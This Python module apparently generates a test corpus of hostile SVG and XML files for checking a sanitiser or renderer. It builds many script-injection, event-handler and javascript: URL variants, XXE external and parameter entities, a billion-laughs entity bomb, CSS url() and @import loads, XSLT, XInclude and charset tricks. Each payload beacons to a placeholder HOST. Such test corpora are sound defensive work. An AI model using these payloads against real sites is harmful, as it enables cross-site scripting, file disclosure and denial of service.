"""Drawings that run scripts, load files or show pages in some browser or other. HOST stands for the address of another server,
which writes down what it is asked for. Each form has the path of its request or script in it, so that a failure names it."""
import base64, gzip

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"


def forms(host: str) -> dict[str, bytes]:
    """The files by name. Scripts call HOST/ran-NAME too, and set a title."""
    found: dict[str, bytes] = {}

    def run(name: str) -> str:
        return f"document.title='ran {name}';new Image().src='{host}/ran-{name}'"

    def raw(name: str, text: str | bytes) -> None:
        found[name] = text if isinstance(text, bytes) else text.encode()

    def svg(name: str, content: str, attributes: str = "", before: str = "") -> None:
        raw(name, f'{before}<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 90 90" width="90" height="90" {attributes}>{content}</svg>')

    def load(name: str) -> str:
        return f"{host}/load-{name}"

    for n, open_ in enumerate(["<script>{}</script>", "<script type='text/javascript'><![CDATA[{}]]></script>",
                               "<x:script xmlns:x='http://www.w3.org/2000/svg'>{}</x:script>",
                               "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{}</h:script>",
                               "<metadata><script>{}</script></metadata>", "<title><script>{}</script></title>",
                               "<defs><style/><script>{}</script></defs>", "<switch><script>{}</script></switch>",
                               "<text>a<script>{}</script></text>", "<foreignObject><script>{}</script></foreignObject>"]):
        svg(f"script-{n}", open_.format(run(f"script-{n}")))
    svg("script-href", f"<script href='{load('script-href')}'/>")
    svg("script-xlink", f"<script xlink:href='{load('script-xlink')}'/>")
    svg("script-data", f"<script href=\"data:text/javascript,{run('script-data')}\"/>")
    svg("onload", "<g/>", f'onload="{run("onload")}"')
    svg("onload-upper", "<g/>", f'onLoad="{run("onload-upper")}"')
    svg("onload-split", "<g/>", f'onl&#111;ad="{run("onload-split")}" on\nload="x"'.replace(' onl&#111;ad', ' onload').replace(' on\nload="x"', ""))
    svg("onbegin", f'<animate attributeName="x" dur="1s" onbegin="{run("onbegin")}"/>')
    svg("onend", f'<rect><set attributeName="x" to="1" dur="0.1s" onend="{run("onend")}"/></rect>')
    svg("onerror", f'<image href="data:image/png,x" onerror="{run("onerror")}" width="9" height="9"/>')
    svg("onfocusin", f'<g tabindex="1" autofocus="" onfocusin="{run("onfocusin")}" onfocus="{run("onfocusin")}"><rect width="9" height="9"/></g>')
    raw("attlist", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{run("attlist")}">]><svg xmlns="{SVG}" viewBox="0 0 9 9"/>')
    raw("attlist-href", f'<!DOCTYPE svg [<!ATTLIST image href CDATA "{load("attlist-href")}">]><svg xmlns="{SVG}"><image width="9" height="9"/></svg>')
    raw("attlist-xmlns", f'<!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "{SVG}" onload CDATA "{run("attlist-xmlns")}">]><svg/>')
    raw("entity", f'<!DOCTYPE svg [<!ENTITY a "<script>{run("entity")}</script>">]><svg xmlns="{SVG}">&a;</svg>')
    raw("entity-attribute", f'<!DOCTYPE svg [<!ENTITY a "{load("entity-attribute")}">]><svg xmlns="{SVG}"><image href="&a;" width="9" height="9"/></svg>')
    raw("entity-nested", f'<!DOCTYPE svg [<!ENTITY b "ipt>"><!ENTITY a "&#60;script>{run("entity-nested")}&#60;/script>">]><svg xmlns="{SVG}">&a;</svg>')
    raw("entity-external", f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{load("entity-external")}">]><svg xmlns="{SVG}">&a;</svg>')
    raw("entity-parameter", f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{load("entity-parameter")}"> %a;]><svg xmlns="{SVG}"/>')
    raw("doctype", f'<!DOCTYPE svg SYSTEM "{load("doctype")}"><svg xmlns="{SVG}"><rect width="9" height="9"/></svg>')
    raw("entity-bomb", '<!DOCTYPE svg [<!ENTITY e0 "aaaaaaaaaa">' + "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)) + f']><svg xmlns="{SVG}"><text>&e9;</text></svg>')
    for n, address in enumerate(["javascript:{}", "java\tscript:{}", " \x01javascript:{}".replace("\x01", ""), "JaVaScRiPt:{}",
                                 "&#106;avascript:{}", "java&#10;script:{}", "data:text/html,<script>{}</script>".replace("<", "&lt;")]):
        svg(f"link-{n}", f'<a href="{address.format(run(f"link-{n}"))}"><rect width="90" height="90"/></a>')
        svg(f"link-xlink-{n}", f'<a xlink:href="{address.format(run(f"link-xlink-{n}"))}"><rect width="90" height="90"/></a>')
    svg("animate-href", f'<a><animate attributeName="href" values="javascript:{run("animate-href")}" fill="freeze"/><rect width="90" height="90"/></a>')
    svg("set-xlink", f'<a><set attributeName="xlink:href" to="javascript:{run("set-xlink")}"/><rect width="90" height="90"/></a>')
    svg("animate-load", f'<image width="9" height="9"><animate attributeName="href" to="{load("animate-load")}" dur="1ms" fill="freeze"/></image>')
    svg("animate-fill", f'<rect width="9" height="9"><animate attributeName="filter" to="url({load("animate-fill")}#a)" dur="1ms" fill="freeze"/></rect>')
    svg("image", f'<image href="{load("image")}" width="9" height="9"/>')
    svg("image-xlink", f'<image xlink:href="{load("image-xlink")}" width="9" height="9"/>')
    svg("image-relative", f'<image href="{load("image-relative").split(":", 1)[1]}" width="9" height="9"/>')
    svg("xml-base", '<image href="load-xml-base" width="9" height="9"/>', f'xml:base="{host}/"')
    svg("feimage", f'<filter id="f"><feImage href="{load("feimage")}"/></filter><rect width="9" height="9" filter="url(#f)"/>')
    svg("use", f'<use href="{load("use")}#a"/>')
    svg("use-data", "<use href='data:image/svg+xml;base64,"
        + base64.b64encode(f'<svg xmlns="{SVG}" id="a"><script>{run("use-data")}</script></svg>'.encode()).decode() + "#a'/>")
    svg("pattern", f'<pattern id="p" href="{load("pattern")}#a"/><rect fill="url(#p)" width="9" height="9"/>')
    svg("text-path", f'<text><textPath href="{load("text-path")}#a">a</textPath></text>')
    svg("nested", "<image width='9' height='9' href='data:image/svg+xml;base64,"
        + base64.b64encode(f'<svg xmlns="{SVG}"><image href="{load("nested")}"/><script>{run("nested")}</script></svg>'.encode()).decode() + "'/>")
    for n, css in enumerate(["fill:url({})", "fill:URL( '{}' )", "mask:url(\"{}#a\")", "filter:u\\72l({}#a)", "clip-path:\\75\\72\\6c({}#a)",
                             "cursor:url({}),auto", "background:url({})", "background:image-set('{}' 1x)", "background:-webkit-image-set(url({}) 1x)",
                             "marker:url({}#a)", "--a:url({});background:var(--a)", "list-style:url({})", "border-image:url({}) 1",
                             "content:url({})", "background:cross-fade(url({}),url({}),50%)", "offset-path:url({}#a)", "shape-inside:url({}#a)",
                             "background:url({}", "fi/**/ll:red;mask-image:/**/url(/**/{}/**/)"]):
        name = f"css-{n}"
        rule = css.replace("{}", load(name))
        attribute = rule.replace('"', "&quot;")
        svg(f"{name}-attribute", f'<rect width="9" height="9" style="{attribute}"/>'.replace(f"load-{name}", f"load-{name}-attribute"))
        svg(f"{name}-sheet", f"<style>rect,svg{{{rule}}}</style><rect width='9' height='9'/>".replace(f"load-{name}", f"load-{name}-sheet"))
    for n, css in enumerate(["@import '{}';", "@import url({});", "@\\69mport '{}';", "@imp<![CDATA[ort '{}';]]>", "@IMPORT\t\"{}\" screen;",
                             "&#64;import '{}';", "<!-- @import '{}'; -->".replace("<", "&lt;"), "@charset 'utf-8';@import/**/'{}';",
                             "@font-face{{font-family:a;src:url({})}}text{{font-family:a}}".replace("{{", "{").replace("}}", "}"),
                             "@media all{@media all{rect{fill:url({}#a);background:url({})}}}", "@supports (fill:red){svg{background:url({})}}",
                             "@layer a{svg{background:url({})}}", "svg{&{background:url({})}}", "@keyframes a{from{background:url({})}to{background:url({})}}svg{animation:a 1s}",
                             "@property --x{syntax:'*';inherits:false;initial-value:url({})}svg{background:var(--x)}",
                             "@namespace url({});@import '{}';", "}svg{background:url({})}", "svg::before{content:url({})}"]):
        name = f"sheet-{n}"
        svg(name, f"<style>{css.replace('{}', load(name))}</style><text>a</text><rect width='9' height='9'/>")
    svg("reference", f'<rect width="9" height="9" style="background:&#117;rl({load("reference")})" fill="&#x75;rl({load("reference")}#a)"/>')
    svg("style-type", f"<style type='text/css' media='all'><![CDATA[svg{{background:url({load('style-type')})}}]]></style>")
    for n, element in enumerate(["<h:img srcset='{} 1x'/>", "<h:img src='{}'/>", "<h:iframe src='{}'/>", "<h:object data='{}'/>", "<h:embed src='{}'/>",
                                 "<h:video poster='{}'/>", "<h:audio src='{}' autoplay=''/>", "<h:link rel='stylesheet' href='{}'/>",
                                 "<h:meta http-equiv='refresh' content='0;url={}'/>", "<h:base href='{}'/><image href='a' width='9' height='9'/>",
                                 "<h:input type='image' src='{}'/>", "<h:body background='{}'/>", "<h:style>svg{background:url({})}</h:style>",
                                 "<foreignObject width='90' height='90'><h:body><h:img src='{}'/></h:body></foreignObject>",
                                 "<switch><foreignObject width='90' height='90'><h:img srcset='{} 1x'/></foreignObject><g/></switch>",
                                 "<switch><foreignObject width='90' height='90'><h:div style='background:url({})'>a</h:div></foreignObject><g/></switch>",
                                 "<h:picture><h:source srcset='{}'/><h:img/></h:picture>", "<h:iframe srcdoc=\"&lt;img src='{}'>\"/>"]):
        svg(f"xhtml-{n}", element.replace("{}", load(f"xhtml-{n}")), f'xmlns:h="{XHTML}"')
    svg("mathml", f"<m:math xmlns:m='http://www.w3.org/1998/Math/MathML' href='javascript:{run('mathml').replace(chr(39), chr(34))}'><m:mi>a</m:mi></m:math>")
    svg("listener", f"<e:listener xmlns:e='http://www.w3.org/2001/xml-events' event='load' handler='#h'/><handler id='h'>{run('listener')}</handler>")
    svg("default-namespace", f"<g xmlns='{XHTML}'><script>{run('default-namespace')}</script></g>")
    svg("stylesheet", "<g/>", before=f"<?xml-stylesheet href='{load('stylesheet')}'?>")
    svg("xslt", "<g/>", before=f"<?xml-stylesheet type='text/xsl' href='{load('xslt')}'?>")
    xsl = (f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><h:html xmlns:h='{XHTML}'>"
           f"<h:script>{run('xslt-data')}</h:script></h:html></xsl:template></xsl:stylesheet>")
    svg("xslt-data", "<g/>", before="<?xml-stylesheet type='text/xsl' href='data:text/xsl;base64," + base64.b64encode(xsl.encode()).decode() + "'?>")
    svg("xinclude", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{load('xinclude')}'/>")
    plain = f'<svg xmlns="{SVG}"><script>{{}}</script></svg>'
    raw("utf-16", plain.format(run("utf-16")).encode("utf-16"))
    raw("utf-16-be", b"\xfe\xff" + plain.format(run("utf-16-be")).encode("utf-16-be"))
    raw("utf-16-bare", ('<?xml version="1.0" encoding="UTF-16LE"?>' + plain.format(run("utf-16-bare"))).encode("utf-16-le"))
    raw("utf-7", '<?xml version="1.0" encoding="UTF-7"?>' + plain.format(run("utf-7")).replace("<", "+ADw-"))
    raw("latin", '<?xml version="1.0" encoding="ISO-8859-1"?>' + plain.format(run("latin")))
    raw("windows", '<?xml version="1.0" encoding="windows-1252"?>' + plain.format(run("windows")))
    raw("bom", b"\xef\xbb\xbf" + plain.format(run("bom")).encode())
    raw("spaces", "\n\n  " + plain.format(run("spaces")))
    raw("gzip", gzip.compress(plain.format(run("gzip")).encode(), mtime=0))
    raw("html", f"<html><script>{run('html')}</script></html>")
    raw("xhtml", f'<html xmlns="{XHTML}"><script>{run("xhtml")}</script></html>')
    raw("no-namespace", f"<svg><script xmlns='{SVG}'>{run('no-namespace')}</script></svg>")
    raw("deep", f'<svg xmlns="{SVG}">' + "<g>" * 5000 + f"<script>{run('deep')}</script>" + "</g>" * 5000 + "</svg>")
    raw("large", f'<svg xmlns="{SVG}"><text>' + "a" * 8_000_000 + f"</text><script>{run('large')}</script></svg>")
    raw("unclosed", f'<svg xmlns="{SVG}"><script>{run("unclosed")}</script>')
    raw("twice", f'<svg xmlns="{SVG}"/><svg xmlns="{SVG}"><script>{run("twice")}</script></svg>')
    raw("null", plain.format(run("null")).replace("<script>", "<scr\0ipt>"))
    return found
